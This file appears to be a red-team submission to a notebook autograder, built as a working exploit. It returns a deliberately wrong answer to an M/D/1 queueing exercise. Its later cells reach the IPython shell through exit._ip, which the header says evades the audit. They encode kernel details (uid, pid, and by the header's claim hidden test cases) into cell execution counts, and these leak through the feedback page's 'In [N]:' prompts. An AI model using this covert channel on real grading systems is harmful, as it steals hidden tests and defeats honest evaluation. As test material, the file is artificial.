# plain cells after a wrong answer write text of the grading kernel's into the feedback without any output: each sets the kernel's execution count (the shell reached as exit._ip, which the audit does not flag: .execution_count, 7 bytes of text as an int) that the next cell's execute_input carries; nbconvert's ExecutePreprocessor keeps it as the cell's execution_count, VerdictsOnly drops outputs only, and the page prints it as the cell's prompt "In [N]:" (any text the kernel learned, e.g. redteam12 pm_oracle's hidden cases: 56 bits a cell)
# target: ex01_3
# metadata: extra
def md1_wait_ms(rate_per_s, service_ms):
    """Mean time (ms) a request waits in the queue of an M/D/1 server; math.inf if ρ ≥ 1."""
    return 0.0 * rate_per_s * service_ms  # wrong: the leak is the point
# --- next cell ---
import os

_said = ("[rt9-leak" + f"] (the grading kernel, uid {os.getuid()}, pid {os.getpid()}, says this)").encode()
_sh = exit._ip  # IPython's ExitAutocall holds the shell
_chunks = [int.from_bytes(_said[k:k + 7], "big") for k in range(0, len(_said), 7)]
_sh.execution_count = _chunks.pop(0)  # the next cell's prompt
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
_sh.execution_count = _chunks.pop(0) if _chunks else 1
md1_wait_ms = md1_wait_ms
# --- next cell ---
md1_wait_ms = md1_wait_ms
